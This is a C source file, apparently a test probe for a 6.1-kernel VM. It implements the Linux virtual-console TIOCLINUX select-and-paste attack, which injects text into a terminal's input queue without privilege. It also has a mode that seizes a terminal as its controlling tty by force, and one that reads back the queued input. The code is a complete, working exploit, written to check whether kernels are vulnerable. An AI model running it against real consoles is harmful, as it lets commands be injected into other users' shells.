/*
 * tests/vt_probe.c - the TIOCLINUX paste attack on a Linux virtual console,
 * for the 6.1 VM (tests/vm-init.sh).  Before 6.7 a process whose controlling
 * terminal is a VT may select text on the screen (TIOCL_SETSEL) and paste it
 * into the VT's input (TIOCL_PASTESEL) without CAP_SYS_ADMIN: a line typed
 * into the caller's shell, whatever dev.tty.legacy_tiocsti says.  Prints one
 * result line; exit 0 when the action worked.  Static, for the initramfs.
 *
 *   vt_probe show PATH TEXT     clear the VT at PATH, write TEXT at row 1
 *   vt_probe paste FD|PATH N    select row 1, columns 1..N, and paste it into
 *                               the terminal on fd FD or on PATH (opened
 *                               read/write, O_NOCTTY)
 *   vt_probe steal PATH N       the same from a new session (a child, when
 *                               this one leads a session already) after
 *                               taking PATH as its controlling terminal by
 *                               force (TIOCSCTTY 1)
 *   vt_probe drain PATH         "queued: TEXT" (or "queued: nothing"): what
 *                               waits in PATH's input queue, read with
 *                               ICANON off
 */
#include <errno.h>
#include <fcntl.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>
#include <linux/tiocl.h>

static const char *ename(int e)
{
	switch (e) {
	case EPERM: return "EPERM";
	case EACCES: return "EACCES";
	case ENOENT: return "ENOENT";
	case ENOTTY: return "ENOTTY";
	case EINVAL: return "EINVAL";
	case ENXIO: return "ENXIO";
	default: return strerror(e);
	}
}

static int open_arg(const char *a, int flags)
{
	char *end;
	long fd = strtol(a, &end, 10);

	if (*a && !*end)
		return (int)fd;
	return open(a, O_RDWR | flags);
}

static int paste(const char *where, int steal, int n)
{
	unsigned char sel[1 + sizeof(struct tiocl_selection)];
	struct tiocl_selection s = { 1, 1, (unsigned short)n, 1, TIOCL_SELCHAR };
	char sub = TIOCL_PASTESEL;
	int fd = open_arg(where, steal ? 0 : O_NOCTTY);

	if (fd < 0) {
		printf("open %s: %s\n", where, ename(errno));
		return 1;
	}
	if (steal && ioctl(fd, TIOCSCTTY, 1) < 0)
		printf("# TIOCSCTTY on %s: %s\n", where, ename(errno));
	sel[0] = TIOCL_SETSEL;
	memcpy(sel + 1, &s, sizeof(s));	/* the kernel reads it at arg + 1 */
	if (ioctl(fd, TIOCLINUX, sel) < 0) {
		printf("TIOCL_SETSEL on %s: %s\n", where, ename(errno));
		return 1;
	}
	if (ioctl(fd, TIOCLINUX, &sub) < 0) {
		printf("TIOCL_PASTESEL on %s: %s\n", where, ename(errno));
		return 1;
	}
	printf("pasted\n");
	return 0;
}

static int steal(const char *path, int n)
{
	pid_t pid;
	int st;

	if (setsid() >= 0)
		return paste(path, 1, n);
	if ((pid = fork()) < 0) {
		printf("fork: %s\n", ename(errno));
		return 1;
	}
	if (pid == 0)
		_exit(setsid() < 0 ? 1 : paste(path, 1, n));
	return waitpid(pid, &st, 0) == pid && WIFEXITED(st) ? WEXITSTATUS(st) : 1;
}

static int show(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_NOCTTY);

	if (fd < 0 || dprintf(fd, "\033[H\033[2J%s", text) < 0) {
		printf("write %s: %s\n", path, ename(errno));
		return 1;
	}
	printf("shown\n");
	return 0;
}

static int drain(const char *path)
{
	struct pollfd p = { .events = POLLIN };
	struct termios t, saved;
	char buf[256];
	ssize_t r, n = 0;

	p.fd = open(path, O_RDWR | O_NOCTTY | O_NONBLOCK);
	if (p.fd < 0 || tcgetattr(p.fd, &t) < 0) {
		printf("open %s: %s\n", path, ename(errno));
		return 1;
	}
	saved = t;
	t.c_lflag &= ~(tcflag_t)(ICANON | ECHO);
	t.c_cc[VMIN] = 0;
	t.c_cc[VTIME] = 0;
	if (tcsetattr(p.fd, TCSANOW, &t) < 0) {
		printf("tcsetattr %s: %s\n", path, ename(errno));
		return 1;
	}
	while (n < (ssize_t)sizeof(buf) - 1 && poll(&p, 1, 300) > 0 &&
	    (r = read(p.fd, buf + n, sizeof(buf) - 1 - (size_t)n)) > 0)
		n += r;
	tcsetattr(p.fd, TCSANOW, &saved);
	buf[n] = '\0';
	buf[strcspn(buf, "\r\n")] = '\0';
	printf("queued: %s\n", n ? buf : "nothing");
	return 0;
}

int main(int argc, char **argv)
{
	setvbuf(stdout, NULL, _IONBF, 0);
	if (argc == 4 && strcmp(argv[1], "show") == 0)
		return show(argv[2], argv[3]);
	if (argc == 4 && strcmp(argv[1], "paste") == 0)
		return paste(argv[2], 0, atoi(argv[3]));
	if (argc == 4 && strcmp(argv[1], "steal") == 0)
		return steal(argv[2], atoi(argv[3]));
	if (argc == 3 && strcmp(argv[1], "drain") == 0)
		return drain(argv[2]);
	fprintf(stderr, "usage: vt_probe show PATH TEXT | paste FD|PATH N | "
	    "steal PATH N | drain PATH\n");
	return 2;
}
